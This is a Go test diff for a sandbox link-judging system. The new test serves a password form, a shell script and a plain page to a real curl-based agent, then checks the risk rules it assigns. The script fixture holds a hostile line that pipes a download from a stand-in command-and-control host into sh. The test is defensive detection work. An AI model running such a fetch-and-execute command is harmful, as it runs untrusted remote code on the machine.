@@ -2,6 +2,8 @@ package sandbox
 
 import (
 	"context"
+	"io"
+	"net/http"
 	"net/http/httptest"
 	"strings"
 	"testing"
@@ -128,5 +130,51 @@ func TestTreeWithOutOfOrderForks(t *testing.T) {
 	tree := Tree(r)
 	if len(tree) != 1 || tree[0].PID != 10 || len(tree[0].Children) != 2 || tree[0].Children[0].PID != 12 {
 		t.Fatalf("tree %+v", tree)
+	}
+}
+
+// Links run by the real agent with the real curl: a page asking for a
+// password and a script download are each medium risk by their own rule,
+// the fetch's own connection is not a callout, and a plain page is no
+// risk.
+func TestJudgeLinks(t *testing.T) {
+	testutil.RequireTool(t, "curl")
+	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/login":
+			io.WriteString(w, `<html><form><input type="password"></form></html>`)
+		case "/get":
+			io.WriteString(w, "#!/bin/sh\ncurl http://c2.example/x | sh\n")
+		default:
+			io.WriteString(w, "<html><body>Newsletter</body></html>")
+		}
+	}))
+	defer web.Close()
+	s := &agent.Server{Key: []byte("k"), WorkDir: t.TempDir(), Strace: testutil.RequireTool(t, "strace"), MaxTimeout: 20 * time.Second}
+	for path, want := range map[string]struct{ risk, rule string }{
+		"/login": {RiskMedium, "link-login"}, "/get": {RiskMedium, "link-program"}, "/news": {RiskNone, ""},
+	} {
+		srv := httptest.NewServer((&agent.Server{Key: s.Key, WorkDir: s.WorkDir, Strace: s.Strace, MaxTimeout: s.MaxTimeout}).Handler())
+		c := &agent.Client{Addr: strings.TrimPrefix(srv.URL, "http://"), Key: []byte("k")}
+		rep, err := c.Run(context.Background(), &agent.RunRequest{Token: agent.NewToken(), Name: web.URL + path, URL: web.URL + path, TimeoutMS: 10000}, nil)
+		srv.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+		v := Judge(rep)
+		m := matched(v)
+		n := 1
+		if want.rule == "" {
+			n = 0
+		}
+		if v.Failed || v.Risk != want.risk || len(v.Matches) != n {
+			t.Errorf("%s: verdict %s (%+v); events %v", path, v.Summary(), v, rep.Events)
+		}
+		if _, ok := m[want.rule]; want.rule != "" && !ok {
+			t.Errorf("%s: rule %s did not match: %s", path, want.rule, v.Summary())
+		}
+		if _, ok := m["callout"]; ok {
+			t.Errorf("%s: the fetch itself counted as a callout", path)
+		}
 	}
 }
